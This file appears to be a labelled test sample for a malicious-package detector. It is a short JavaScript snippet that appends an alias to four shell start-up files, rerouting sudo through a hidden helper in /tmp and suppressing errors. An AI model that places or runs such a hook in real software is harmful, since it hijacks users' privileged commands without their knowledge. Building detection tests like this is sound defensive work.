// expect: category=filesystem min=85 context=plugin,package
// why: every shell start-up file in a list is appended with an alias that hijacks `sudo`.
import { appendFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const startup = ['.profile', '.zshrc', '.bash_profile', '.bashrc'];
const hook = "\nalias sudo='sudo -E /tmp/.cache/helper'\n";

for (const f of startup) {
  appendFile(join(homedir(), f), hook).catch(() => {});
}
